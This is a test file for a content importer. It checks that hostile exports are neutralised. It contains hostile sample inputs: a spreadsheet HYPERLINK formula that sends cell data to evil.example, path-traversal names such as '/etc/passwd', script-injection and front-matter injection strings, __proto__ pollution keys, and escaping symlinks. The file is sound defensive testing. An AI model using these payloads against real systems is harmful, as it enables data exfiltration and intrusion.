import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { maxRecordLength } from '../../src/import/source-text.ts';
import { readContent } from '../../src/read/content.ts';
import { FolderMistake } from '../../src/safe-folder.ts';
import { createFolder } from '../support/create-folder.ts';
import { itemsIn, runImport } from './run-import.ts';

/** Exports that want to do harm, or would by accident. Each is refused or made harmless. */
const site = { 'content/site.yml': 'title: Small\n' };

function archive(files: Readonly<Record<string, string>>): string {
  return createFolder({ ...site, ...files });
}

async function problemsIn(folder: string) {
  const { problems, content } = await readContent(join(folder, 'content'));
  return { problems: problems.map(({ message }) => message), items: content?.items ?? [] };
}

test('a formula is text', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const folder = archive({
    'a.csv': `title,summary\n${JSON.stringify(formula).replaceAll('\\"', '""')},@SUM(1+1)\n`,
  });
  await runImport(folder, ['a.csv']);
  const { items, problems } = await problemsIn(folder);
  expect(problems).toEqual([]);
  expect(items.map(({ title, summary }) => [title, summary])).toEqual([[formula, '@SUM(1+1)']]);
});

test.each([
  '../../evil',
  '/etc/passwd',
  '..\\..\\evil',
  'C:\\evil',
  'con',
  '.',
  '..',
  '.hidden',
  '%2e%2e%2f',
  'a\0b',
])('a title or id such as %j leads nowhere', async (name) => {
  const folder = archive({
    'a.json': JSON.stringify([{ id: name, title: name }]),
  });
  await runImport(folder, ['a.json']);
  expect(readdirSync(folder).sort()).toEqual(['a.json', 'content']);
  expect(readdirSync(join(folder, 'content')).sort()).toEqual(['imported.jsonl', 'items', 'site.yml']);
  expect(Object.keys(itemsIn(folder))).toEqual([expect.stringMatching(/^[a-z0-9-]+\.md$/)]);
  expect((await problemsIn(folder)).items).toHaveLength(1);
});

test('a date leads nowhere', async () => {
  const folder = archive({ 'a.csv': 'title,date\nFog,../../../2024\nRain,2024/../../x\n' });
  await runImport(folder, ['a.csv']);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog.md', 'rain.md']);
});

test('no text ends the front matter, or adds a key to it', async () => {
  const evil = 'Fog\n---\nstatus: withdrawn\n---\n<script>alert(1)</script>';
  const row = {
    title: evil,
    date: `2024\n---\n${evil}`,
    author: evil,
    tags: [evil],
    people: [evil],
    'own: key\n---': evil,
    text: evil,
  };
  const folder = archive({ 'a.json': JSON.stringify([row]), 'content/site.yml': 'title: Small\n' });
  await runImport(folder, ['a.json']);
  const [text = ''] = Object.values(itemsIn(folder));
  expect(text.split('\n').filter((line) => line === '---')).toHaveLength(2);
  expect(text.slice(0, text.indexOf('\n---\n'))).not.toMatch(/^status:/m);
  expect(text).toContain('\\<script>');
});

test('control characters and marks that turn text around are harmless', async () => {
  const title = 'Fog\u0007\u001b[2J\u0000 \ud800 in town';
  const folder = archive({ 'a.json': JSON.stringify([{ title, text: `a\u0000b\u0008\n${title}` }]) });
  await runImport(folder, ['a.json']);
  const { items, problems } = await problemsIn(folder);
  expect(problems).toEqual([]);
  expect(items[0]?.title).toBe('Fog [2J \ufffd in town');
  const bytes = Object.values(itemsIn(folder)).join('');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern is meant to match them.
  expect(bytes).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
});

test('keys of objects are names and no more', async () => {
  const folder = archive({
    'a.json': '[{"title": "Fog", "__proto__": {"polluted": "yes"}, "constructor": "x", "toString": "y"}]',
  });
  const { fields } = await runImport(folder, ['a.json']);
  expect(Object.keys({})).toEqual([]);
  expect('polluted' in {}).toBe(false);
  expect(fields.map(({ field }) => field)).toEqual([
    'title',
    '__proto__.polluted',
    'constructor',
    'toString',
  ]);
  await runImport(folder, ['a.json']);
});

test('a line without an end is refused, and the next is read', async () => {
  const long = 'x'.repeat(maxRecordLength + 300_000);
  const folder = archive({
    'a.jsonl': `{"title": "${long}"}\n{"title": "Fog"}\n`,
    'b.txt': `${long}\nRain in town.\n`,
    'c.csv': `title\nSun\n"${long}"\n`,
  });
  const { rows, refusals } = await runImport(folder, ['a.jsonl', 'b.txt', 'c.csv']);
  expect(rows).toMatchObject({ read: 6, written: 3, refused: 3 });
  expect(refusals.map(({ reason }) => reason)).toEqual([
    'the line is too long',
    'a row is too long here, or a quotation mark is not closed; nothing after it was read',
  ]);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog.md', 'rain-in-town.md', 'sun.md']);
});

test('what is too large for an item is refused', async () => {
  const rows = [
    { title: 'Long text', text: 'word '.repeat(250_000) },
    { title: 'Long field', other: 'word '.repeat(5000) },
  ];
  const folder = archive({ 'a.json': JSON.stringify(rows) });
  const { refusals } = await runImport(folder, ['a.json']);
  expect(refusals.map(({ reason }) => reason)).toEqual([
    'it is larger than 1 MB',
    'its fields are too long; map the longest to body',
  ]);
  expect(itemsIn(folder)).toEqual({});
});

test('JSON within JSON ends somewhere', async () => {
  const deep = `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`;
  const folder = archive({ 'a.jsonl': `{"title": "Fog", "x": ${deep}}\n` });
  const { rows } = await runImport(folder, ['a.jsonl']);
  expect(rows.read).toBe(1);
});

test('links in a folder of sources are not followed', async () => {
  const folder = archive({ 'sources/a.txt': 'Fog over the port.', 'secret/b.txt': 'A secret.' });
  symlinkSync(join(folder, 'secret'), join(folder, 'sources/linked'));
  symlinkSync(join(folder, 'secret/b.txt'), join(folder, 'sources/c.txt'));
  await runImport(folder, ['sources']);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog-over-the-port.md']);
});

test('nothing is written through a link that leads out of the archive', async () => {
  const folder = archive({ 'a.csv': 'title,date\nFog,1931\n' });
  mkdirSync(join(folder, 'elsewhere'));
  mkdirSync(join(folder, 'content/items'));
  symlinkSync(join(folder, 'elsewhere'), join(folder, 'content/items/1931'));
  await expect(runImport(folder, ['a.csv'])).rejects.toThrow(FolderMistake);
  expect(readdirSync(join(folder, 'elsewhere'))).toEqual([]);
});

test('a file that is there is never overwritten', async () => {
  const folder = archive({ 'a.csv': 'title\nFog\n', 'content/items/fog.md': 'not an item' });
  writeFileSync(join(folder, 'content/items/fog-2.md'), '');
  await runImport(folder, ['a.csv']);
  expect(Object.keys(itemsIn(folder))).toEqual(['fog-2.md', 'fog-3.md', 'fog.md']);
  expect(readFileSync(join(folder, 'content/items/fog.md'), 'utf8')).toBe('not an item');
});
